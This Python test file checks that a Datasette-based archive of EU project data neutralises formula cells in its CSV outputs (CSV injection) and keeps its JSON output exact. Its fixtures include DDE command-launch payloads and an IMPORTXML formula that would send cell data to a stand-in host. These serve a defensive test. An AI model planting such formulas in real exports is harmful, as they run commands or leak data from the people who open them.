"""CSV for spreadsheets: no cell becomes a formula (OWASP "CSV Injection"); JSON stays exact.

The rule is one function, :func:`parser.spreadsheet.neutralise_cell`; the server applies
it to every ``.csv`` response (``plugins/csv_safety.py``), ``esr export --format csv`` to every
cell it writes. The archive here is a copy of the one built from the real corpus (of the small
one, for the export of every table), with hostile names written into ``projects``,
``project_list`` and ``organisations`` (the texts anyone can write: documents and lists), read
back through every CSV route with the csv module.
"""

from __future__ import annotations

import asyncio
import csv
import html
import importlib.util
import io
import json
import re
import shutil
import sqlite3
import urllib.parse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parser.spreadsheet import (
    FORMULA_TRIGGERS,
    PLAIN_NUMBER,
    CsvNeutraliser,
    neutralise_cell,
    neutralise_row,
    rewrite_csv,
)

from .conftest import ROOT, asgi_body_messages, esr_in_process, publish

#: Hostile names, by project; the last is a plain negative number written as text.
NAMES = {
    "S10962": '=HYPERLINK("http://x","y")',
    "S10673": "+cmd|' /C calc'!A0",
    "S20334": "-2+3",
    "S21736": "@SUM(1)",
}
#: More cells that must be neutralised: a tab or a carriage return in front.
OTHER = {"implementer_name": "\t=1+1", "contact_title": "\r=2+2"}
#: A row of the official list, not one of the four described projects (in the small lists of
#: tests/fixtures/reference too).
LIST_CODE = "S10324"
LIST_NAME = "=cmd|'/c calc'!A1"
ORGANISATION = ("0171450-7", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")")


def fetch(datasette, path):
    async def run():
        return await datasette.client.get(path)

    return asyncio.run(run())


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def dicts_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_safe(rows: list[list[str]]) -> None:
    """No cell of a CSV starts like a formula, unless it is a plain number."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or PLAIN_NUMBER.fullmatch(cell), (cell, row[:3])


def hostile_copy(source, folder):
    """A copy of the archive ``source`` (as ``folder/esr.db``) whose texts hold formulas, and a
    number or two."""
    db = folder / "esr.db"
    shutil.copy(source, db)
    conn = sqlite3.connect(db)
    with conn:
        for code, name in NAMES.items():
            conn.execute("update projects set name = ? where code = ?", (name, code))
            conn.execute("update project_list set name = ? where code = ?", (name, code))
        for column, value in OTHER.items():
            conn.execute(f"update projects set {column} = ? where code = 'S10962'", (value,))
        # A real SQL integer that is negative, and a text that is a plain negative number.
        conn.execute("update projects set eu_state_granted = -2, project_type = '-2' where code = 'S10962'")
        changed = conn.execute("update project_list set name = ?, eu_state_granted = -2.5 where code = ?", (LIST_NAME, LIST_CODE)).rowcount
        conn.execute("update organisations set name = ? where business_id = ?", (ORGANISATION[1], ORGANISATION[0]))
    conn.close()
    assert changed == 1, f"{LIST_CODE} is not a row of {source}'s lists"
    return db


@pytest.fixture(scope="module")
def hostile_archive(built_archive, tmp_path_factory):
    """A hostile copy (``hostile_copy``) of the archive built with all 22,821 rows of the lists."""
    return hostile_copy(built_archive, tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def hostile_datasette(hostile_archive):
    return publish(hostile_archive)


# --------------------------------------------------------------------------------- the rule


@pytest.mark.parametrize(
    "value,expected",
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+358 40 123 4567", "'+358 40 123 4567"),
        ("-", "'-"),
        ("- luettelon kohta", "'- luettelon kohta"),
        # A plain number is read as that number, never as a formula: left as it is.
        ("-2", "-2"),
        ("+5", "+5"),
        ("-1.5", "-1.5"),
        ("-2e3", "-2e3"),
        ("-.5", "-.5"),
        # Not a plain number: other digits, spaces, a second sign.
        ("-٢", "'-٢"),
        ("-2 ", "'-2 "),
        ("--2", "'--2"),
        # Nothing a spreadsheet reads as a formula.
        ("", ""),
        ("Kuopion kaupunki", "Kuopion kaupunki"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        (" =1", " =1"),
        ("\u2212" + "2", "\u2212" + "2"),
        # Not text: an SQL integer, real or null is never touched.
        (-2, -2),
        (-2.5, -2.5),
        (None, None),
        (b"=1", b"=1"),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


@settings(max_examples=200, deadline=None, database=None)
@given(st.lists(st.text(max_size=6) | st.sampled_from(["=1", "-2", "-2+3", "+", "@a", "\t=", "\r="]) | st.integers() | st.floats(allow_nan=False) | st.none() | st.binary(max_size=3), max_size=8))
def test_a_row_is_neutralised_cell_by_cell(row):
    """``neutralise_row`` (what the exports and the server's answers write) gives each cell
    exactly what ``neutralise_cell`` gives it, whatever the mix of texts and other values."""
    assert neutralise_row(row) == [neutralise_cell(value) for value in row]
    assert neutralise_row(iter(row)) == neutralise_row(row)  # a generator of cells, as plugins/answers.py hands it


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(max_size=12) | st.sampled_from(FORMULA_TRIGGERS).flatmap(lambda first: st.text(max_size=8).map(lambda rest: first + rest)))
def test_a_neutralised_text_never_starts_a_formula(value):
    out = neutralise_cell(value)
    assert out in (value, "'" + value)
    assert not out.startswith(FORMULA_TRIGGERS) or PLAIN_NUMBER.fullmatch(out)
    assert neutralise_cell(out) == out  # neutralising twice changes nothing


cells = st.one_of(st.text(max_size=10), st.sampled_from(["=1", "-2", "+x", "@a", "\t=", "\r=", 'a"b', "a,b", "a\nb", "a\r\nb", ""]))


@settings(max_examples=200, deadline=None, database=None)
@given(rows=st.lists(st.lists(cells, min_size=1, max_size=4), max_size=6), cuts=st.lists(st.integers(min_value=0), max_size=8))
def test_the_stream_rewriter_is_the_rule_whatever_the_chunks(rows, cuts):
    """Bytes cut anywhere (inside a character, a quoted cell, a line end) give the same CSV as
    the rule applied to every cell."""
    source = io.StringIO()
    csv.writer(source).writerows(rows)
    data = source.getvalue().encode("utf-8")
    expected = io.StringIO()
    csv.writer(expected).writerows([[neutralise_cell(cell) for cell in row] for row in rows])
    points = sorted({cut % (len(data) + 1) for cut in cuts})
    rewriter = CsvNeutraliser()
    out = b"".join(rewriter.feed(data[a:b]) for a, b in zip([0, *points], [*points, len(data)]))
    assert rewriter.finish() == ""
    assert out.decode("utf-8") == expected.getvalue()


def test_the_stream_rewriter_streams_and_leaves_safe_csv_as_it_is():
    rewriter = CsvNeutraliser()
    assert rewriter.feed(b"code,name\r\n") == b"code,name\r\n"
    assert rewriter.feed(b'S1,"=1,\r\n') == b""  # a quoted cell still open: wait for its end
    assert rewriter.feed(b'2"\r\nS2,x\r\n') == b"S1,\"'=1,\r\n2\"\r\nS2,x\r\n"
    assert rewriter.feed(b"unterminated") == b"" and rewriter.finish() == "unterminated"
    safe = 'a,b,c\r\n1,"x, ""y""",\r\n-2,,"multi\nline"\r\n'
    assert rewrite_csv(safe) == safe
    # A formula in the very first cell of what comes, bare or quoted.
    assert CsvNeutraliser().feed(b"=1,b\r\n") == b"'=1,b\r\n"
    assert CsvNeutraliser().feed(b'"@a,b",c\r\n') == b"\"'@a,b\",c\r\n"
    assert rewrite_csv("+x\r\n") == "'+x\r\n"


# ------------------------------------------------------------------------- the server's CSV

#: Every kind of CSV route of Datasette: a table (one page, every row, as a file, with labels),
#: a row, a canned query and an SQL query (the same).
CSV_ROUTES = [
    "/esr/projects.csv",
    "/esr/projects.csv?_stream=on",
    "/esr/projects.csv?_dl=on",
    "/esr/projects.csv?_stream=on&_labels=on&_dl=on",
    "/esr/projects.csv?_size=1&_sort=code",
    "/esr/projects/S10962.csv",
    "/esr/projects.csv?_trace=1&_dl=on",
    "/esr.csv?" + urllib.parse.urlencode({"sql": "select code, name, eu_state_granted, project_type from projects"}),
    "/esr.csv?" + urllib.parse.urlencode({"sql": "select code, name, eu_state_granted, project_type from projects", "_stream": "on", "_dl": "on"}),
    "/esr/organisation_projects.csv?q=0171450-7",
    "/esr/organisation_projects.csv?q=0171450-7&_dl=on",
]


@pytest.mark.parametrize("path", CSV_ROUTES)
def test_every_csv_route_neutralises_formulas(hostile_datasette, path):
    response = fetch(hostile_datasette, path)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith(("text/csv", "text/plain"))
    rows = rows_of(response.text)
    assert_safe(rows)
    by_code = {row["code"]: row for row in dicts_of(response.text) if row.get("code") in NAMES}
    assert by_code, response.text[:300]
    for code, row in by_code.items():
        assert row["name"] == "'" + NAMES[code]
    numbers = by_code.get("S10962", {})
    assert numbers.get("eu_state_granted", "-2") == "-2"  # an SQL integer
    assert numbers.get("project_type", "-2") == "-2"  # a text that is a plain number


def test_the_download_link_of_a_table_page_is_neutralised(hostile_datasette):
    page = fetch(hostile_datasette, "/esr/indicators")
    link = next(html.unescape(href) for href in re.findall(r'href="([^"]+)"[^>]*>[^<]*Lataa kaikki rivit CSV', page.text))
    response = fetch(hostile_datasette, link)
    assert response.status_code == 200 and response.headers["content-disposition"]
    rows = dicts_of(response.text)
    assert_safe(rows_of(response.text))
    labels = {row["project_code"]: row["project_code_label"] for row in rows}
    assert labels["S10962"] == "'" + NAMES["S10962"]  # the label column of a foreign key


def test_the_official_list_and_the_label_of_an_organisation_are_neutralised(hostile_datasette):
    listed = fetch(hostile_datasette, f"/esr/project_list.csv?code={LIST_CODE}")
    (row,) = dicts_of(listed.text)
    assert row["name"] == "'" + LIST_NAME and row["eu_state_granted"] == "-2.5"
    labelled = fetch(hostile_datasette, "/esr/projects.csv?_labels=on&code=S10962")
    (row,) = dicts_of(labelled.text)
    assert row["implementer_business_id_label"] == "'" + ORGANISATION[1]
    assert row["implementer_name"] == "'" + OTHER["implementer_name"]
    assert row["contact_title"] == "'" + OTHER["contact_title"]


def test_json_and_json_lines_stay_exact(hostile_datasette):
    as_json = fetch(hostile_datasette, "/esr/projects.json?_shape=array").json()
    assert {row["code"]: row["name"] for row in as_json} == NAMES
    row = fetch(hostile_datasette, "/esr/projects.json?code=S10962&_shape=array").json()[0]
    assert row["eu_state_granted"] == -2 and row["project_type"] == "-2"
    assert row["implementer_name"] == OTHER["implementer_name"] and row["contact_title"] == OTHER["contact_title"]
    lines = fetch(hostile_datasette, "/-/jsonl/esr/projects").text.splitlines()
    assert {json.loads(line)["code"]: json.loads(line)["name"] for line in lines} == NAMES
    query = fetch(hostile_datasette, "/esr/organisation_projects.json?q=0171450-7&_shape=array").json()
    assert {row["name"] for row in query if row["code"] in NAMES} <= set(NAMES.values())


def test_a_streamed_csv_walks_pages_of_1000_rows_and_is_sent_in_pieces(hostile_datasette, monkeypatch):
    """The 2,775 ESR rows of the 2007–2013 list: 3 pages of at most 1,000 rows (Datasette 0.65
    alone walks 56 pages of 50), sent in pieces of some 64 KiB, not one message a row."""
    database = hostile_datasette.get_database("esr")
    statements = []
    execute = database.execute

    async def counted(sql, *args, **kwargs):
        statements.append(sql)
        return await execute(sql, *args, **kwargs)

    monkeypatch.setattr(database, "execute", counted)
    path = "/esr/project_list.csv?_stream=on&fund=ESR&source_list=projektilista-2007-2013.csv"
    bodies = asgi_body_messages(hostile_datasette, path)
    pages = [sql for sql in statements if "from project_list" in sql.lower() and "limit" in sql.lower() and "count(" not in sql.lower()]
    assert len(pages) == 3, pages
    rows = rows_of(b"".join(bodies).decode("utf-8"))
    assert len(rows) == 1 + 2775 and len({row[0] for row in rows[1:]}) == 2775
    assert_safe(rows)
    assert 1 < len(bodies) < 60, len(bodies)
    # Given a page size of its own, a stream keeps it.
    statements.clear()
    asgi_body_messages(hostile_datasette, path + "&_size=500")
    assert len([sql for sql in statements if "from project_list" in sql.lower() and "limit 501" in sql.lower()]) == 6


@pytest.mark.parametrize(
    "query, rewritten",
    [
        (b"_stream=on", b"_stream=on&_size=max"),
        (b"_stream=0", b"_stream=0&_size=max"),  # any non-empty _stream streams, as in Datasette
        (b"_stream=on&_size=5", b"_stream=on&_size=5"),  # a page size of its own is kept
        (b"_stream=&_stream=on", b"_stream=&_stream=on"),  # Datasette reads the first: no stream
        (b"_trace=1&_stream=on&a=1", b"_stream=on&a=1&_size=max"),
        (b"code=S10962&_trace=1", b"code=S10962"),
    ],
)
def test_a_csv_request_is_rewritten_only_as_the_module_says(query, rewritten):
    spec = importlib.util.spec_from_file_location("esr_csv_safety", ROOT / "plugins" / "csv_safety.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module._csv_query(query) == rewritten


def test_an_error_of_a_csv_request_is_not_rewritten(hostile_datasette):
    response = fetch(hostile_datasette, "/esr/projects.csv?_sort=nope")
    assert response.status_code == 400 and response.text.startswith("Virhe 400 / Error 400\n")


# ---------------------------------------------------------------------------------- esr export


def test_esr_export_csv_neutralises_and_jsonl_stays_exact(small_archive, tmp_path):
    # The small lists: every table of the archive is exported, and the 22,821 rows of the whole
    # lists would take seconds to say what 42 rows say.
    hostile_archive = hostile_copy(small_archive, tmp_path)
    for output_format in ("csv", "jsonl"):
        result = esr_in_process("export", "--db", str(hostile_archive), "--format", output_format, "-o", str(tmp_path / output_format))
        assert result.returncode == 0, result.stderr
    for name in ("projects", "project_list", "organisations", "co_implementers"):
        with open(tmp_path / "csv" / f"{name}.csv", encoding="utf-8", newline="") as file:
            assert_safe(list(csv.reader(file)))
    with open(tmp_path / "csv" / "projects.csv", encoding="utf-8", newline="") as file:
        projects = {row["code"]: row for row in csv.DictReader(file)}
    assert {code: row["name"] for code, row in projects.items()} == {code: "'" + name for code, name in NAMES.items()}
    assert projects["S10962"]["eu_state_granted"] == "-2" and projects["S10962"]["project_type"] == "-2"
    assert projects["S10962"]["implementer_name"] == "'" + OTHER["implementer_name"]
    with open(tmp_path / "csv" / "project_list.csv", encoding="utf-8", newline="") as file:
        listed = {row["code"]: row for row in csv.DictReader(file)}
    assert listed[LIST_CODE]["name"] == "'" + LIST_NAME and listed[LIST_CODE]["eu_state_granted"] == "-2.5"
    lines = (tmp_path / "jsonl" / "projects.jsonl").read_text(encoding="utf-8").splitlines()
    exported = {json.loads(line)["code"]: json.loads(line) for line in lines}
    assert {code: row["name"] for code, row in exported.items()} == NAMES
    assert exported["S10962"]["eu_state_granted"] == -2 and exported["S10962"]["implementer_name"] == OTHER["implementer_name"]
